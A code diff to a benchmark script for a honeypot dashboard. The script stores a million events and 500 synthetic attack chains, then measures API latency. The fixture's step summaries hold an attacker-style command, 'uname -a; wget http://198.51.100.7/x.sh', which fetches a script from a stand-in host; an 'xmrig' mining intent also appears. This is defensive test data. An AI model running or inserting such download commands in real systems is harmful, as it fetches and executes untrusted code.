@@ -1,6 +1,7 @@
 // Dashboard benchmark: one million stored events (APIARY_BENCH_EVENTS to change it), the dashboard's
 // HTTPS API under a bounded local load (CONCURRENCY clients, REQUESTS requests per page), p50/p95 per
-// page against a trivial authenticated request (/api/session) measured in the same run.
+// page (overview, session searches, credentials, attack chains, a session) against a trivial
+// authenticated request (/api/session) measured in the same run.
 import { mkdtempSync, rmSync } from 'node:fs';
 import { Agent, request } from 'node:https';
 import { cpus, loadavg, tmpdir } from 'node:os';
@@ -12,6 +13,7 @@ import type { Config } from '../src/config/schema.js';
 import type { ApiaryEvent } from '../src/events/catalogue.js';
 import { newEventId } from '../src/events/id.js';
 import { SqliteStore } from '../src/store/sqlite/sqlite-store.js';
+import type { AttackRecord } from '../src/store/store.js';
 import { SqliteDashboardReads } from '../src/store/sqlite/dashboard-reads.js';
 import { startDashboard } from '../src/web/server.js';
 
@@ -73,15 +75,9 @@ async function load(agent: Agent, port: number, paths: () => string, cookie: str
 
 const CHAINS = 500;
 
-interface ChainWriter {
-  commitAttacks?(records: readonly unknown[], watermark: { key: string; expected: string | undefined; next: string }): Promise<boolean>;
-}
-
-/** Stores CHAINS synthetic chains when the store keeps chains; returns their ids (none otherwise). */
+/** Stores CHAINS synthetic chains; returns their ids. */
 async function storeChains(store: SqliteStore, start: number): Promise<string[]> {
-  const writer = store as unknown as ChainWriter;
-  if (typeof writer.commitAttacks !== 'function') return [];
-  const records = Array.from({ length: CHAINS }, (_, c) => {
+  const records: AttackRecord[] = Array.from({ length: CHAINS }, (_, c) => {
     const ips = Array.from({ length: 5 }, (_, k) => `203.0.${c % 250}.${k + 1}`);
     const t = (k: number): string => new Date(start + c * 3_600_000 + k * 60_000).toISOString();
     return {
@@ -90,17 +86,17 @@ async function storeChains(store: SqliteStore, start: number): Promise<string[]>
       factors: { persistence: { points: 10, explanation: 'came back on 4 days' }, separation: { points: 20, explanation: 'scan and login from different hosts' } },
       first_seen: t(0),
       last_seen: t(199),
-      sources: ips.map((ip) => ({ ip, scope: 'external', country: 'NL', role: 'attacker' })),
+      sources: ips.map((ip) => ({ ip, scope: 'external' as const, country: 'NL', role: 'attacker' as const })),
       services: ['ssh', 'mysql'],
       techniques: [{ id: 'T1110.001', name: 'Brute Force: Password Guessing', evidence: ['e'] }, { id: 'T1105', name: 'Ingress Tool Transfer', evidence: ['wget'] }],
       intents: [{ name: 'resource_abuse', evidence: [{ event_id: 'e', detail: 'xmrig' }] }],
-      links: Array.from({ length: 20 }, (_, k) => ({ type: 'credential_handoff', from: ips[k % 5]!, to: ips[(k + 1) % 5]!, explanation: 'password found by one, used by the other', evidence: [`e${k}`] })),
+      links: Array.from({ length: 20 }, (_, k) => ({ type: 'credential_handoff' as const, from: ips[k % 5]!, to: ips[(k + 1) % 5]!, explanation: 'password found by one, used by the other', evidence: [`e${k}`] })),
       steps: Array.from({ length: 200 }, (_, k) => ({ time: t(k), src_ip: ips[k % 5]!, country: 'NL', service: 'ssh', sensor: 'sensor-0', technique: k % 3 ? null : 'T1110.001', summary: `step ${k}: uname -a; wget http://198.51.100.7/x.sh`, event_id: `e${k}` })),
       events: 5000,
       merged: [],
     };
   });
-  await writer.commitAttacks(records, { key: 'bench.attacks', expected: undefined, next: '1' });
+  await store.commitAttacks(records, { key: 'bench.attacks', expected: undefined, next: '1' });
   return records.map((r) => r.id);
 }
 
@@ -124,7 +120,7 @@ async function main(): Promise<void> {
         return { id: newEventId(t), time: new Date(t).toISOString(), type: 'honeytoken.planted', sensor: 'sensor-0', session: 'planted', protocol: 'ssh', src_ip: '0.0.0.0', src_port: 0, dst_ip: '0.0.0.0', dst_port: 0, payload } as ApiaryEvent;
       }),
     );
-    // Attack chains, when the store keeps them (issue 8): CHAINS ranked chains of 200 steps and 20 links.
+    // Attack chains (issue 8): CHAINS ranked chains of 200 steps and 20 links.
     const chainIds = await storeChains(store, start);
     const fillS = (performance.now() - tFill) / 1000;
     const stored = await store.count();
@@ -168,12 +164,8 @@ async function main(): Promise<void> {
       ['sessions: user name + since', await load(agent, port, () => `/api/sessions?username=oracle&since=2025-06-01`, login)],
       ['sessions: command contains', await load(agent, port, () => `/api/sessions?command=x42.sh`, login)],
       ['credentials and honeytokens', await load(agent, port, () => '/api/credentials', login)],
-      ...(chainIds.length
-        ? ([
-            ['attack chains list', await load(agent, port, () => '/api/chains', login)],
-            ['attack chain page', await load(agent, port, () => `/api/chains/${chainIds[n++ % chainIds.length]}`, login)],
-          ] as [string, number[]][])
-        : []),
+      ['attack chains list', await load(agent, port, () => '/api/chains', login)],
+      ['attack chain page', await load(agent, port, () => `/api/chains/${chainIds[n++ % chainIds.length]}`, login)],
       ['session page', await load(agent, port, () => `/api/sessions/b${((n++ * 7717) % sessions).toString(36).padStart(8, '0')}`, login)],
     ];
     agent.destroy();
